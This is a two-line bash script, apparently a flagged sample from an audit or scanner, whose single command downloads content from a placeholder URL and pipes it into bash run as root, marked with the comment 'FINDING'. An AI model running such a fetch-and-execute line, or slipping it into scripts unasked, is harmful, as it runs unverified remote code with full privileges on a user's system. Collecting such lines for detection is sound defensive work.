#!/bin/bash
wget -qO- https://example.com/x | sudo -E bash -s -- --yes  # FINDING
